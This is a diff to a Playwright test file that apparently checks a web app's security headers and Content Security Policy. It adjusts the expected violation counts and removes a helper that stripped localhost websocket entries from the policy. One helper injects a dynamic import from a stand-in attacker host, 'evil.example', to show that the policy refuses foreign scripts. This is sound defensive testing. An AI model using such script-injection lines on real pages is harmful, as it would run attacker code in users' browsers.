@@ -16,18 +16,12 @@ async function openHome(page: Page): Promise<void> {
 /** Loads a foreign script, as an attacker would. It is a text, because the runner would rewrite the import. */
 const plantScript = (page: Page) => page.evaluate("import('https://evil.example/a.js').catch(() => undefined)");
 
-/** Removes the planted violations, one by the header and one by the tag. */
+/** Removes the planted violation, which the page's own tag reports. */
 async function expectRefused(page: Page, violations: string[], words: RegExp): Promise<void> {
-  await expect.poll(() => violations.filter((violation) => words.test(violation))).toHaveLength(2);
+  await expect.poll(() => violations.filter((violation) => words.test(violation))).toHaveLength(1);
   // Waits for the console's message, which precedes the page's answer.
   await page.evaluate(() => undefined);
   violations.splice(0);
-}
-
-/** Removes this machine's call centre switch, which the embedded backend adds to the policy. */
-function withoutSwitch(headers: Readonly<Record<string, string>>): Record<string, string> {
-  const policy = headers['content-security-policy'] ?? '';
-  return { ...headers, 'content-security-policy': policy.replace(/ ws:\/\/localhost:5049 ws:\/\/localhost:14900/, '') };
 }
 
 test('every page and file of the app when it is loaded: has the headers of the build', async ({ page, request }) => {
@@ -43,7 +37,8 @@ test('every page and file of the app when it is loaded: has the headers of the b
   const assets = files.filter((name) => name.includes('/assets/'));
   expect(assets.length).toBeGreaterThan(3);
   for (const path of ['/health/', '/health/package-list', '/health/worker.js', ...assets])
-    expect(withoutSwitch((await request.get(path)).headers())).toMatchObject(Object.fromEntries(named));
+    for (const [name = '', value = ''] of named)
+      expect((await request.get(path)).headers()[name]?.split(', ')[0], `${path} ${name}`).toBe(value);
 });
 
 test('a request to another site when a page sends it: contains at most the page’s origin', async ({ page }) => {
